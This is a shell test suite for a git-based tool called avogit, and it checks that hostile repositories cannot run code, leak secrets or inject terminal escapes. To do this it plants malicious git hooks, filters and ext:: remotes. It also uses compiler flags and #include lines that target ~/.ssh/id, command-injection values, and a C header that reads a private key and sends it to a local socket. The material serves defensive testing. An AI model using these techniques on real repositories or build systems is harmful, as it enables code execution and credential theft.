#!/bin/sh
# test: parallel long no-asan
test_description='a repository that carries everything it can: nothing of it gets out'
. "$(dirname "$0")/../lib-avogit.sh"

unset XDG_STATE_HOME XDG_CACHE_HOME
mark=avogit-mark-$$
secret=the-secret-of-$$
here=$PWD
escape=$(printf '\033')
csi=$(printf '\302\233') # the same for a terminal, as one character
avogit doctor 2>/dev/null | grep -q '^ok *sandbox' && test_set_prereq SANDBOX

mkdir -p "$HOME/.ssh" "$HOME/keep/me" &&
echo "$secret" >"$HOME/.ssh/id" &&
echo precious >"$HOME/keep/me/file" &&
chmod -R a+rX "$HOME" # so that only the sandbox is in the way
printf '#!/bin/sh\ntouch "%s/%s"\nexit 1\n' "$HOME" "$mark" >evil.sh &&
chmod 755 evil.sh

# Something that was not to run has run.
marked () {
	set -- "$HOME/$mark" "/tmp/$mark" "$here"/*/"$mark" \
		"$here"/*/.git/"$mark"
	for file
	do
		test -e "$file" && echo "$file is there" && return 0
	done
	return 1
}

unmark () {
	rm -f "$HOME/$mark"
}

# Set where what a task's code says about itself follows the sentence.
own_words=

# Runs `avogit ARGS`: it ends with one of CODES (a|b), says why in a sentence,
# leaves no mark, and neither tells the secret nor prints what a terminal acts
# upon: attack CODES ARGS
attack () {
	codes=$1
	shift
	avogit "$@" >"$here/out" 2>"$here/err" </dev/null
	code=$?
	eval "case $code in $codes) ;; *) false ;; esac" || {
		echo "exit code $code of avogit $*"
		cat "$here/out" "$here/err"
		return 1
	}
	if test "$code" -gt 1
	then
		{ test -n "$own_words" || test "$(wc -l <"$here/err")" = 1; } &&
		sed 1q "$here/err" | grep "^avogit: " || {
			cat "$here/err"
			return 1
		}
	fi &&
	! marked &&
	! grep -e "$secret" "$here/out" "$here/err" &&
	! grep -e "$escape" -e "$csi" "$here/out" "$here/err"
}

# All commands that a curious person would try.
attack_all () {
	attack '0|1|128' score &&
	attack '0|1|128' score --json HEAD &&
	attack '0|128' evolve --attempts 1 --time 60s &&
	attack '0|2|128' log &&
	attack '0|2|128' log --json &&
	attack '0|128' show HEAD &&
	attack '0|128' show --json HEAD &&
	attack '0|1|2|128' best &&
	attack '0|1' doctor &&
	no_secret_kept
}

# Neither notes nor journals, candidates nor logs have it.
no_secret_kept () {
	! git cat-file --batch-all-objects --batch | grep -a -e "$secret"
}

# In the task: LINE in place of the line that begins with KEY (or at the end);
# score refuses, with a sentence that has PATTERN: task KEY LINE PATTERN
task () {
	cp "$here/good.yaml" avogit.yaml &&
	sed -i "/^$1/d" avogit.yaml &&
	printf '%b\n' "$2" >>avogit.yaml &&
	git commit -qam "$1" &&
	attack 128 score && grep -e "$3" "$here/err" &&
	attack 128 evolve --attempts 1 && grep -e "$3" "$here/err" || {
		echo "at: $2"
		cat "$here/out" "$here/err"
		return 1
	}
}

test_expect_success 'setup' '
	sed "/^reference:/,\$d" "$SHARNESS_TEST_SRCDIR/scale/avogit.yaml" \
		>good.yaml &&
	cat >>good.yaml <<-\EOF
	reference: {source: reference.c, entry: scale_reference, plain: scale_plain}
	baselines: {naive: {source: baseline.c, entry: scale_naive}}
	build: {compiler: cc, flags: [-O2]}
	limits: {timeout: 1s}
	EOF
'

# ---- what git would run -----------------------------------------------------

test_expect_success 'setup: a .git with every program that git can be given' '
	cd "$here" &&
	make_light_repo config &&
	git commit -q --allow-empty -m second &&
	for key in core.fsmonitor core.sshCommand core.pager core.editor \
		core.askPass core.gitProxy diff.external credential.helper \
		alias.log alias.rev-parse filter.evil.smudge \
		filter.evil.clean filter.evil.process diff.evil.textconv \
		diff.evil.command merge.evil.driver gpg.program \
		sequence.editor pager.log pager.config interactive.diffFilter \
		uploadpack.packObjectsHook core.alternateRefsCommand
	do
		git config "$key" "$here/evil.sh" || return 1
	done &&
	git config alias.config "!$here/evil.sh" &&
	git config commit.gpgSign true &&
	git config protocol.ext.allow always &&
	git config remote.origin.url "ext::$(echo "$here/evil.sh" | sed "s/ /% /g")" &&
	mkdir -p .git/hooks &&
	for hook in post-commit pre-commit reference-transaction \
		post-checkout post-index-change post-rewrite pre-auto-gc \
		commit-msg prepare-commit-msg fsmonitor-watchman
	do
		cp ../evil.sh .git/hooks/$hook || return 1
	done &&
	git config core.hooksPath .git/hooks &&
	{ git status >/dev/null 2>&1 || :; } &&
	marked && unmark
'

test_expect_success 'no command runs any of them' '
	cd "$here/config" &&
	attack 0 score &&
	attack 0 score HEAD &&
	attack "0|1" score --again --against HEAD^ HEAD &&
	attack 0 evolve --attempts 1 &&
	attack 0 evolve --attempts 1 &&
	attack 0 log && attack 0 log --all --json &&
	attack 0 show HEAD && attack "0|1" best && attack "0|1" doctor &&
	attack 0 runs && attack 0 diff HEAD && attack 0 prune &&
	attack "0|1|128" trust && attack 0 trust --list &&
	attack 0 trust --revoke && attack "0|128" init kernel.c
'

test_expect_success 'filters of .gitattributes are not run' '
	cd "$here/config" &&
	printf "kernel.c filter=evil diff=evil merge=evil\n" \
		>.git/info/attributes &&
	touch kernel.c &&
	attack 128 score && grep "filter .evil." ../err &&
	attack 128 score HEAD && grep "filter .evil." ../err &&
	cd ..
'

test_expect_success 'a partial clone makes git fetch, so it is not asked' '
	cd "$here" &&
	make_light_repo partial &&
	blob=$(git rev-parse HEAD:kernel.c) &&
	git config core.repositoryFormatVersion 1 &&
	git config extensions.partialClone origin &&
	git config remote.origin.promisor true &&
	git config protocol.ext.allow always &&
	git config remote.origin.url "ext::$(echo "$here/evil.sh" | sed "s/ /% /g")" &&
	rm -f ".git/objects/$(echo "$blob" | sed "s|^..|&/|")" &&
	attack 128 score HEAD && grep "avogit does not fetch" ../err &&
	attack 128 evolve --attempts 1 &&
	attack "0|128" show HEAD &&
	{ git cat-file -e "$blob" 2>/dev/null || :; } &&
	marked && unmark
'

# The address of a remote that is a program.
ext_address () {
	echo "ext::$(echo "$here/evil.sh" | sed "s/ /% /g")"
}

# A branch, and a reflog, with what is not there: who collects asks for it.
missing_objects () {
	missing=$(echo missing | git hash-object --stdin) &&
	tree=$(printf "100644 blob %s\tfile\n" "$missing" | git mktree --missing) &&
	git update-ref refs/heads/partly "$(git commit-tree -m partly "$tree")" &&
	printf "%s %s A <a@b> %s +0000\tx\n" "$missing" "$missing" \
		"$(date +%s)" >>.git/logs/HEAD
}

# More packs than git leaves alone.
many_packs () {
	for i in 1 2 3
	do
		git commit -q --allow-empty -m "$i" && git repack -q || return 1
	done &&
	git config gc.autoPackLimit 1 && git config gc.autoDetach false
}

n_packs () {
	find .git/objects/pack -name "*.pack" | wc -l
}

test_expect_success 'what collects at the end of evolve fetches nothing' '
	cd "$here" && make_light_repo collect &&
	git config core.repositoryFormatVersion 1 &&
	git config extensions.partialClone origin &&
	git config remote.origin.promisor true &&
	git config protocol.ext.allow always &&
	git config remote.origin.url "$(ext_address)" &&
	many_packs && missing_objects &&
	git config gc.recentObjectsHook "$here/evil.sh" &&
	for hook in pre-auto-gc reference-transaction
	do
		cp ../evil.sh .git/hooks/$hook || return 1
	done &&
	attack 0 evolve --seed 1 --attempts 1 &&
	git config --unset gc.recentObjectsHook &&
	attack 0 evolve --attempts 1 &&
	{ git -c core.hooksPath=/dev/null gc >/dev/null 2>&1 || :; } &&
	marked && unmark
'

test_expect_success 'a setting that only a later git knows turns collecting off' '
	cd "$here" && make_light_repo later &&
	many_packs && git config hook.evil.command "$here/evil.sh" &&
	avogit evolve --seed 1 --attempts 1 >/dev/null &&
	test "$(n_packs)" = 3 &&
	git config --unset hook.evil.command &&
	avogit evolve --attempts 1 >/dev/null &&
	test "$(n_packs)" = 1
'

# What KEY is set to is not used before the user agreed, and no sync is done:
# refuses_to_sync KEY VALUE...
refuses_to_sync () {
	rm -rf "$here/transport" && cd "$here" && make_light_repo transport &&
	git config remote.origin.url ssh://localhost/nowhere &&
	git config remote.origin.fetch "+refs/heads/*:refs/remotes/origin/*" &&
	while test $# -gt 1
	do
		git config "$1" "$2" && last=$1 || return 1
		shift 2
	done &&
	attack 128 sync && grep "avogit trust --git" ../err &&
	attack 128 sync --dry-run && attack 128 sync origin &&
	attack 128 rm --yes --remote origin scale &&
	grep "avogit trust --git" ../err &&
	attack 128 trust --git && grep -i "^$last" ../out || {
		echo "at $last"
		return 1
	}
}

test_expect_success 'sync asks before it uses what the repository names' '
	refuses_to_sync protocol.ext.allow always \
		remote.origin.url "$(ext_address)" &&
	refuses_to_sync core.sshCommand "$here/evil.sh" &&
	refuses_to_sync core.gitProxy "$here/evil.sh" &&
	refuses_to_sync core.askPass "$here/evil.sh" &&
	refuses_to_sync credential.helper "$here/evil.sh" &&
	refuses_to_sync credential.https://x.helper "$here/evil.sh" &&
	refuses_to_sync remote.origin.uploadpack "$here/evil.sh" &&
	refuses_to_sync remote.origin.receivepack "$here/evil.sh" &&
	refuses_to_sync remote.origin.vcs evil &&
	refuses_to_sync remote.origin.pushurl "$(ext_address)" &&
	refuses_to_sync gpg.program "$here/evil.sh" &&
	refuses_to_sync http.proxy http://localhost:1 &&
	refuses_to_sync protocol.ext.allow always &&
	refuses_to_sync hook.x.command "$here/evil.sh" &&
	refuses_to_sync unheard.of "$here/evil.sh" &&
	refuses_to_sync "url.$(ext_address).insteadOf" ssh://localhost
'

test_expect_success 'nor a remote that lies beside the configuration' '
	cd "$here" && rm -rf transport && make_light_repo transport &&
	git config protocol.ext.allow always &&
	mkdir .git/remotes && echo "URL: $(ext_address)" >.git/remotes/origin &&
	attack 128 sync origin && grep "avogit trust --git" ../err
'

test_expect_success 'nor the hooks of a repository that came along' '
	cd "$here" && rm -rf transport hub.git && make_light_repo transport &&
	git clone -q --bare . ../hub.git && git remote add origin ../hub.git &&
	avogit score >/dev/null &&
	mkdir -p ../hub.git/hooks && cp ../evil.sh ../hub.git/hooks/post-receive &&
	attack 128 sync && grep "remote.origin.url" ../err &&
	rm ../hub.git/hooks/post-receive &&
	git -C ../hub.git config gc.recentObjectsHook "$here/evil.sh" &&
	attack 128 sync && grep "remote.origin.url" ../err &&
	git -C ../hub.git config --unset gc.recentObjectsHook &&
	attack 0 sync &&
	cp ../evil.sh .git/hooks/reference-transaction &&
	cp ../evil.sh .git/hooks/pre-push &&
	avogit score --again >/dev/null && attack 0 sync
'

test_expect_success 'what the user agreed to is used, until it changes' '
	cd "$here/transport" &&
	cp ../evil.sh ../hub.git/hooks/post-receive &&
	avogit trust --git --yes && avogit score --again >/dev/null &&
	{ avogit sync || :; } && marked && unmark &&
	git config core.sshCommand "$here/evil.sh" &&
	attack 128 sync && grep "core.sshcommand" ../err &&
	avogit trust --revoke && git config --unset core.sshCommand &&
	attack 128 sync
'

test_expect_success 'pick asks for hooks and drivers, too' '
	cd "$here" && rm -rf picks && make_light_repo picks &&
	avogit evolve --seed 1 --attempts 1 >/dev/null &&
	cp ../evil.sh .git/hooks/post-commit &&
	attack 128 pick scale#1 && grep "hooks/post-commit" ../err &&
	rm .git/hooks/post-commit &&
	git config filter.evil.smudge "$here/evil.sh" &&
	attack 128 pick scale#1 && grep "filter.evil.smudge" ../err &&
	git config --unset filter.evil.smudge &&
	avogit pick scale#1 &&
	git reset -q --hard HEAD^ && cp ../evil.sh .git/hooks/post-commit &&
	avogit trust --git --yes && { avogit pick scale#1 || :; } &&
	marked && unmark
'

# ---- a folder of avogit that it did not make --------------------------------

test_expect_success 'links in .git/avogit: nothing elsewhere is touched' '
	cd "$here" &&
	for name in ws cache cache/build lock writer config scale.lock
	do
		rm -rf links && make_light_repo links &&
		mkdir -p ".git/avogit/$(dirname "$name")" &&
		case $name in
		ws|cache*) ln -s "$HOME/keep" ".git/avogit/$name" ;;
		*) ln -s "$HOME/keep/me/file" ".git/avogit/$name" ;;
		esac &&
		attack 128 score && grep "is a link" ../err &&
		attack 128 evolve --attempts 1 &&
		test "$(ls "$HOME/keep")" = me &&
		test "$(cat "$HOME/keep/me/file")" = precious || return 1
		cd ..
	done &&
	rm -rf links && make_light_repo links &&
	ln -s "$HOME/keep" .git/avogit &&
	attack 128 score && grep "avogit is not a folder" ../err &&
	test "$(ls "$HOME/keep")" = me &&
	cd ..
'

test_expect_success 'pipes in .git are named and not waited for' '
	cd "$here" &&
	for name in HEAD config packed-refs index shallow info/exclude \
		info/attributes objects/info/alternates refs/heads/other \
		logs/HEAD commondir avogit/lock avogit/writer avogit/config \
		refs/notes/avogit objects/pack/x.idx objects/17/x worktrees/x
	do
		rm -rf pipes && make_light_repo pipes &&
		mkdir -p ".git/$(dirname "$name")" && rm -rf ".git/$name" &&
		mkfifo ".git/$name" &&
		attack 128 score && grep "$name is a pipe" ../err &&
		attack 128 evolve --attempts 1 && attack 128 log || return 1
		cd ..
	done &&
	rm -rf pipes && make_light_repo pipes && mkfifo ../pipe &&
	ln -sf "$here/pipe" .git/packed-refs &&
	attack 128 score && grep "packed-refs is a pipe" ../err &&
	rm -r .git && mkfifo .git && attack 128 score && grep "is a pipe" ../err &&
	cd ..
'

test_expect_success 'a lock that was left names refs only' '
	cd "$here" &&
	make_light_repo leftover &&
	touch "$HOME/keep/poetry.lock" &&
	mkdir -p .git/avogit .git/refs/avogit &&
	up=../../$(echo "$PWD" | sed "s|^/||; s|[^/]*|..|g") &&
	echo "refs/avogit/$up/..$HOME/keep/poetry" >.git/avogit/lock &&
	attack 0 score &&
	attack 0 evolve --attempts 1 &&
	test -f "$HOME/keep/poetry.lock" &&
	cd ..
'

test_expect_success 'a work tree that is the home of the user' '
	cd "$here" &&
	mkdir -p "$HOME/src" && cd "$HOME/src" && make_light_repo kernel &&
	git rm -q --cached . -r &&
	mkdir .ssh && cp kernel.c .ssh/id && git add -f . &&
	sed -i "s|sources: .*|sources: [kernel.c, .ssh/id]|" avogit.yaml &&
	git add -f . && git commit -qm "sources of yours" &&
	git config core.worktree ../../.. &&
	attack 128 score && grep "core.worktree" "$here/err" &&
	attack 128 evolve --attempts 1 &&
	attack 128 init kernel.c &&
	no_secret_kept &&
	cd "$here"
'

# ---- what the task names ----------------------------------------------------

test_expect_success 'programs, flags and paths that a task must not name' '
	cd "$here" &&
	cp evil.sh /tmp/evil-$$ &&
	make_light_repo names && cp ../evil.sh evil &&
	git add . && git commit -qm evil &&
	for compiler in ./evil ../evil /tmp/evil-$$ evil sub/evil poweroff \
		"cc -B." "gcc;touch" "\$(touch)" "-cc"
	do
		task build: "build: {compiler: \x27$compiler\x27}" \
			build.compiler || return 1
	done &&
	for flag in -fplugin=./evil -fplugin-arg-x -B. -B/tmp @file -wrapper \
		-specs=evil -Wl,-dynamic-linker -Wl,-rpath=. -I/etc -I.. \
		-include /etc/passwd -isystem -iquote -imacros -Xlinker -T \
		-x -o -L. -l:evil.so -save-temps -dumpdir --sysroot=/ \
		-fdump-tree-all -fprofile-generate=/tmp -Wa,-I/etc \
		-Wp,-MD,/tmp/x -fmodule-mapper=evil -MF -MD -fuse-ld=evil \
		-D@x "-DX=\x60x\x60" -ffile-prefix-map=a=b --param -run
	do
		task build: "build: {flags: [\x27$flag\x27]}" build.flags &&
		task build: "build: {allow: [\x27$flag\x27]}" build.allow ||
			return 1
	done &&
	for lib in /tmp/x.so ./x.so -l:x.so -L. evil.c -l/x "-lx -B." -Wl,x
	do
		task baselines: "baselines: {b: {source: baseline.c, entry: scale_naive, libs: [\x27$lib\x27]}}" -lNAME ||
			return 1
	done &&
	for path in /etc/passwd ../x a/../../x .git/config ./.git/x \
		"\$HOME/.ssh/id" "a\\\\\\\\nb"
	do
		task sources: "sources: [\x27$path\x27]" . &&
		task include "include: [\x27$path\x27]" . &&
		task reference: "reference: {source: \x27$path\x27, entry: scale_reference}" . &&
		task baselines: "baselines: {b: {source: \x27$path\x27, entry: b}}" . ||
			return 1
	done &&
	cd .. && rm -f /tmp/evil-$$
'

test_expect_success 'names with what a terminal acts upon' '
	cd "$here/names" &&
	task name: "name: \"a\\\\\\\\e[31mb\"" name &&
	task entry: "entry: \"a\\\\\\\\e[31mb\"" entry &&
	task cases: "cases: [{\"n\\\\\\\\e[2J\": 1}]" . &&
	task cases: "cases: [{n: \"\\\\\\\\e]0;x\\\\\\\\a\"}]" . &&
	task baselines: "baselines: {\"\\\\\\\\e[1m\": {source: baseline.c, entry: b}}" . &&
	task "x" "\"\\\\\\\\e[1m\\\\\\\\x9b1m\": 1" "unknown key" &&
	task bytes: "bytes: \"\\\\\\\\e[1m\"" . &&
	cd ..
'

test_expect_success 'a task file of 100 MB, one of great depth, many cases' '
	cd "$here/names" &&
	perl -e "print qq(#) x 1e8" >avogit.yaml &&
	git commit -qam huge &&
	attack 128 score && attack 128 evolve && attack "0|1" doctor &&
	perl -e "print qq(name: ), qq([) x 400000" >avogit.yaml &&
	git commit -qam deep && attack 128 score &&
	perl -e "print qq({a: ) x 100000" >avogit.yaml &&
	git commit -qam deep && attack 128 score &&
	perl -e "print qq(a\$_: 1\\n) for 1 .. 90000" >avogit.yaml &&
	git commit -qam wide && attack 128 score &&
	cp ../good.yaml avogit.yaml && sed -i "/^cases/,/^  - {n/d" avogit.yaml &&
	perl -e "print qq(cases:\\n); print qq(  - {n: \$_}\\n) for 1 .. 50000" \
		>>avogit.yaml &&
	git commit -qam cases && attack 128 score && attack 128 evolve &&
	cd ..
'

# ---- trees and links --------------------------------------------------------

test_expect_success 'links in the commit and in the work tree' '
	cd "$here" &&
	for name in avogit.yaml reference.c kernel.c baseline.c
	do
		rm -rf linked && make_light_repo linked &&
		ln -sf "$HOME/.ssh/id" $name && git commit -qam link &&
		attack 128 score && grep "$name is a symbolic link" ../err &&
		attack 128 evolve --attempts 1 && no_secret_kept || return 1
		cd ..
	done &&
	rm -rf linked && make_light_repo linked &&
	ln -sf "$HOME/.ssh/id" kernel.c &&
	attack 128 score && attack 128 evolve --attempts 1 &&
	no_secret_kept &&
	git checkout -q kernel.c && mkdir src && git mv kernel.c src &&
	sed -i "s|\[kernel.c\]|[\"src/*\"]|" avogit.yaml &&
	git commit -qam folder &&
	rm -r src && ln -s "$HOME/.ssh" src &&
	attack 128 score && attack 128 evolve --attempts 1 &&
	git add -f src && git commit -qam "a folder that is a link" &&
	attack 128 score && no_secret_kept &&
	cd ..
'

# A tree object with whatever names: tree MODE NAME ID...
tree () {
	perl -e "while (@ARGV) { my (\$m, \$n, \$i) = splice @ARGV, 0, 3;
		print qq(\$m \$n\\0), pack(q(H*), \$i) }" "$@" |
	git hash-object -t tree -w --literally --stdin
}

test_expect_success 'trees with .git, .. and absolute names' '
	cd "$here" &&
	make_light_repo trees &&
	sed -i "s|\[kernel.c\]|[kernel.c, \"s/**\", \"s/*/*\"]|" avogit.yaml &&
	blob=$(git hash-object -w kernel.c) &&
	task=$(git hash-object -w avogit.yaml) &&
	reference=$(git rev-parse HEAD:reference.c) &&
	baseline=$(git rev-parse HEAD:baseline.c) &&
	for name in .git .. . .GIT a/b /etc "" "a\\b" "$(printf "a\\nb")" \
		"$escape[1m"
	do
		inner=$(tree 100644 "$mark" "$blob") &&
		inner=$(tree 40000 "$name" "$inner") &&
		top=$(tree 100644 avogit.yaml "$task" \
			100644 baseline.c "$baseline" 100644 kernel.c "$blob" \
			100644 reference.c "$reference" 40000 s "$inner") &&
		id=$(git commit-tree -m trees "$top") &&
		git update-ref refs/heads/main "$id" &&
		attack "0|128" score HEAD && attack "0|128" score &&
		attack "0|128" evolve --attempts 1 --run "r" &&
		git for-each-ref --format="%(refname)" refs/avogit refs/heads/avo |
		while read -r ref; do git update-ref -d "$ref"; done || return 1
	done &&
	cd ..
'

# ---- what is compiled and run -----------------------------------------------

# A header with evil (), called by constructors and by the entries.
write_evil () {
	cat >evil.h <<-EOF
	#define _GNU_SOURCE
	#include <arpa/inet.h>
	#include <fcntl.h>
	#include <stdio.h>
	#include <stdlib.h>
	#include <string.h>
	#include <sys/socket.h>
	#include <sys/wait.h>
	#include <unistd.h>
	static void tell(const char *text, int len)
	{
		struct sockaddr_in to = {.sin_family = AF_INET,
					 .sin_port = htons($port)};
		int fd;
		for (int i = 1; i < (LEVEL < 2 ? 3 : 20); i++)
			(void)!write(i, text, len);
		fd = LEVEL ? socket(AF_INET, SOCK_STREAM, 0) : -1;
		to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
		if (fd >= 0 && !connect(fd, (void *)&to, sizeof to))
			(void)!write(fd, text, len);
	}
	static void evil(void)
	{
		static const char *const marks[] = {"$HOME/$mark", "/tmp/$mark",
			"$PWD/$mark", "$PWD/.git/$mark", "../$mark", "$here/$mark"};
		char text[100] = "hello\n\033[31mevil\n";
		int fd = open("$HOME/.ssh/id", O_RDONLY);
		int n = fd >= 0 ? read(fd, text, sizeof text) : -1;
		for (int i = 0; i < 6; i++)
			close(open(marks[i], O_CREAT | O_WRONLY, 0666));
		tell(text, n > 0 ? n : (int)strlen(text));
		if (LEVEL > 1)
			(void)!system("$here/evil.sh; cat $HOME/.ssh/id >&2");
	}
	EOF
}

# Listens at $port; every connection is a line in ./heard.
listen_begin () {
	rm -f "$here/port" "$here/heard"
	mkfifo "$here/port" || return
	perl -MIO::Socket::INET -e '$| = 1;
		my $s = IO::Socket::INET->new(Listen => 9, LocalAddr => "127.0.0.1") or die;
		open my $p, ">", $ARGV[0]; print $p $s->sockport, "\n"; close $p;
		while (my $c = $s->accept) {
			open my $h, ">>", $ARGV[1]; print $h "heard\n"; close $h;
			print $c "heard\n"; close $c }' \
		"$here/port" "$here/heard" &
	listener=$!
	read -r port <"$here/port"
}

test_expect_success SANDBOX 'kernel, reference, plain, generator and baseline that try it' '
	cd "$here" &&
	listen_begin &&
	own_words=t &&
	for part in kernel reference plain generator baseline
	do
		for level in 0 1 2
		do
			rm -rf code && make_light_repo code && write_evil &&
			sed -i "s|^sources:.*|&\ninclude: [inc]|" avogit.yaml &&
			mkdir inc && mv evil.h inc && file=$part.c &&
			case $part in
			plain|generator) file=reference.c ;;
			esac &&
			if test $part = generator
			then
				sed -i "s|name: x, dtype: f32, shape: .n.|&, fill: {generator: make}|" avogit.yaml
			fi &&
			{
				echo "#define LEVEL $level" &&
				echo "#include \"evil.h\"" &&
				echo "__attribute__((constructor)) static void at_start(void) { if (LEVEL < 2) evil(); }" &&
				echo "#include <stdint.h>" &&
				echo "void make(float *x, uint64_t seed, int64_t n) { evil(); for (int64_t i = 0; i < n; i++) x[i] = (float)((seed + i * 7) % 13); }" &&
				cat $file
			} >new.c && mv new.c $file &&
			case $part in
			plain) name=scale_plain ;;
			reference) name=scale_reference ;;
			baseline) name=scale_naive ;;
			*) name=scale ;;
			esac &&
			sed -i "/^void $name(/{n;s/{/{ evil();/}" $file &&
			git add . && git commit -qm "$part" &&
			attack_all || return 1
			cd ..
		done
	done &&
	own_words= &&
	! test -e heard
'

test_expect_success SANDBOX 'the listener would have heard' '
	cd "$here" &&
	perl -MIO::Socket::INET -e "print IO::Socket::INET->new(PeerAddr => qq(127.0.0.1:$port))->getline" |
	grep heard &&
	kill $listener && { wait $listener || :; } &&
	test -s heard
'

test_expect_success SANDBOX 'sources that try it at compile time' '
	cd "$here" &&
	make_light_repo compile && cp kernel.c ../plain.c &&
	while read -r line
	do
		{ printf "%s\n" "$line" && cat ../plain.c; } >kernel.c &&
		attack "0|1" score &&
		{ printf "%s\n" "$line" && git show HEAD:reference.c; } \
			>reference.c &&
		git commit -qam "$line" &&
		attack "0|1|128" score HEAD &&
		attack "0|128" evolve --attempts 1 --run r &&
		git checkout -q HEAD^ -- . && git commit -qam back &&
		no_secret_kept || return 1
	done <<-EOF &&
	#include "$HOME/.ssh/id"
	#include "../../../../../../../../../..$HOME/.ssh/id"
	__asm__(".incbin \"$HOME/.ssh/id\"");
	__asm__(".include \"$HOME/.ssh/id\"");
	#pragma GCC optimize "-fplugin=$here/evil.sh"
	#pragma GCC optimize "-fdump-tree-all=/tmp/$mark"
	__attribute__((optimize("-wrapper,$here/evil.sh"))) void f(void) {}
	#pragma GCC dependency "$HOME/.ssh/id"
	#pragma GCC pch_preprocess "$HOME/.ssh/id"
	#pragma comment(linker, "$here/evil.sh")
	// avogit-flags: -fplugin=$here/evil.sh
	// avogit-flags: -B$here
	#line 1 "$HOME/.ssh/id"
	#error ev$escape[31mil $csi
	#pragma message "$escape]0;title"
	#warning $escape[2J
	#include_next <$here/evil.sh>
	EOF
	cd ..
'

# ---- what is printed --------------------------------------------------------

# The journal of the run scale with other texts: rewrite_journal PERL
rewrite_journal () {
	journal=$(git for-each-ref --format="%(refname)" refs/avogit/scale) &&
	last= &&
	for id in $(git rev-list --reverse --first-parent "$journal")
	do
		second=$(git rev-parse -q --verify "$id^2" || :) &&
		git log -1 --format=%B "$id" | perl -pe "$1" >message &&
		last=$(git commit-tree ${last:+-p $last} \
			${second:+-p $second} -F message "$id^{tree}") ||
			return 1
	done &&
	git update-ref "$journal" "$last" &&
	rm -f .git/avogit/tips
}

test_expect_success 'subjects, names and journals with escapes' '
	cd "$here" &&
	make_light_repo words &&
	git -c user.name="A$escape[31m$csi" commit -q --allow-empty \
		-m "a$escape[31mb${csi}1mc" -m "Body $escape[2J" &&
	attack 0 score HEAD && attack 0 evolve --seed 1 --attempts 2 &&
	git notes --ref=avogit append -m "x $escape[31m$csi" HEAD &&
	rewrite_journal "s/(\"(subject|hypothesis|why|log|name|reason|machine_name|key|value|cpu)\":\")/\${1}\\\\u001b[31m\\\\u009b1m/g" &&
	git log -1 --format=%B "$journal" | grep u001b &&
	attack 0 log && grep "\\^\[\[31m" ../out &&
	attack 0 log --json && attack 0 log --all &&
	attack "0|1" best && attack "0|1" best --json &&
	attack 0 show scale#1 && attack 0 show --json scale#1 &&
	attack 0 show HEAD && attack 0 show --json HEAD &&
	attack 0 score HEAD && attack 0 evolve --attempts 1 &&
	cd ..
'

test_expect_success 'the message of an attempt reaches commits, notes and journals clean' '
	cd "$here" && make_light_repo said && echo "// more" >>kernel.c &&
	override=$(printf "\342\200\256") && isolate=$(printf "\342\201\246") &&
	attack 0 score --run q -m "x${csi}31mred$override${isolate}y$escape[0m" &&
	git log --all --notes=avogit --format="%B%N" >../all &&
	grep "x?31mred??y^\[\[0m" ../all &&
	! grep -e "$escape" -e "$csi" -e "$override" -e "$isolate" ../all &&
	grep -F "x\\u009b31mred\\u202e\\u2066y\\u001b[0m" ../all &&
	cd ..
'

test_expect_success 'a run whose name is a command is no run' '
	cd "$here/words" &&
	rewrite_journal "s/\"run\":\"scale\"/\"run\":\"x;touch y\"/" &&
	git log -1 --format=%B "$journal" | grep "touch y" &&
	attack 128 log && grep "is no name of a run" ../err &&
	attack 128 evolve --attempts 1 && ! grep touch ../out &&
	cd ..
'

test_expect_success 'a folder and a file with escapes in their names' '
	cd "$here" &&
	make_light_repo "fol$escape[31mder" &&
	mkdir "sub$escape[1m" && cp avogit.yaml kernel.c reference.c baseline.c sub* &&
	git add . && git commit -qm sub && cd sub* &&
	attack "0|128" score && attack "0|128" trust && attack "0|1" doctor &&
	echo "/* */" >>reference.c &&
	attack 128 score && attack 128 evolve &&
	cp kernel.c "k$escape[1m.c" && attack 2 init -f "k$escape[1m.c" &&
	cd ../..
'

# The object of the kernel among those that are kept.
kernel_object () {
	basename "$(grep -L -e scale_reference -e scale_naive "$kept"/*)"
}

test_expect_success 'objects that the repository brought are not used' '
	cd "$here" &&
	make_light_repo planted &&
	kept=$HOME/.cache/avogit/build &&
	rm -rf "$kept" &&
	attack 0 score --again &&
	cp "$kept/$(kernel_object)" ../good &&
	sed -i "s/MODE 0/MODE 1/" kernel.c && git commit -qam wrong &&
	rm -rf "$kept" &&
	attack 1 score --again &&
	wrong=$(kernel_object) &&
	rm -rf "$kept" &&
	mkdir -p .git/avogit/cache/build &&
	cp ../good ".git/avogit/cache/build/$wrong" &&
	attack 1 score --again &&
	cp ../good "$kept/$wrong" && # so much for the test itself
	attack 0 score --again &&
	rm -rf "$kept" && cd ..
'

test_expect_success 'nothing got out in all of this' '
	cd "$here" &&
	! marked &&
	test "$(cat "$HOME/keep/me/file")" = precious &&
	test "$(ls "$HOME/keep")" = "$(printf "me\npoetry.lock")"
'

test_done
